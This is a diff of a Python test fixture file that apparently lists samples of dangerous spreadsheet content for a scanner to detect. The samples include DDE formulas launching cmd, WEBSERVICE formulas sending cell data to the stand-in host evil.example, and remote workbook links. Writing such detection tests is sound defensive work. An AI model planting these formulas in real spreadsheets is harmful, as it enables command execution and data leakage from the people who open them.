@@ -268,8 +268,6 @@ EXCEL = {
     "a mash-up": sheet(parts={"customXml/item1.xml": Part(
         "<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>UEsD</DataMashup>".encode("utf-16"),
         "application/xml", "customXml")}),
-    "a control of a form": sheet(parts={"xl/ctrlProps/a.xml": Part(b"<formControlPr/>",
-        "application/vnd.ms-excel.controlproperties+xml", "ctrlProp")}),
     "a program's data": formula("cmd|'/c calc'!A0"),
     "a program's data, by a function": formula('DDE("cmd";"/c calc";"A")'),
     "the web, by a function": formula('WEBSERVICE("https://evil.example/"&amp;A1)'),
@@ -286,8 +284,6 @@ EXCEL = {
     "a link into the machine by a function": formula('HYPERLINK("file:///c:/x","x")'),
     "another book": formula("[1]Sheet1!A1"),
     "another book on a share": formula("'\\\\evil.example\\[x.xlsx]A'!A1"),
-    "an address made of text": formula("INDIRECT(A1)"),
-    "a button in a sheet": drawn('<v:shape><x:ClientData xmlns:x="urn:schemas-microsoft-com:office:excel" ObjectType="Button"><x:FmlaMacro>[0]!A</x:FmlaMacro></x:ClientData></v:shape>'),
 }  # fmt: skip
 
 OPEN_DOCUMENT = {
@@ -335,7 +331,6 @@ OPEN_DOCUMENT = {
     "the web by a function of OpenDocument": cell("of:=WEBSERVICE(&quot;https://evil.example&quot;)"),
     "another file by a formula": cell("of:=['https://evil.example/x.ods'#$A.A1]"),
     "the web with a prefix of OpenDocument": cell("of:=COM.MICROSOFT.WEBSERVICE([.A1])"),
-    "an address made of text in OpenDocument": cell("of:=INDIRECT([.A1])"),
     "a condition that fetches": open_document(
         '<table:content-validations><table:content-validation table:condition="of:is-true-formula(WEBSERVICE([.A1]))"/>'
         "</table:content-validations>", kind="spreadsheet"),
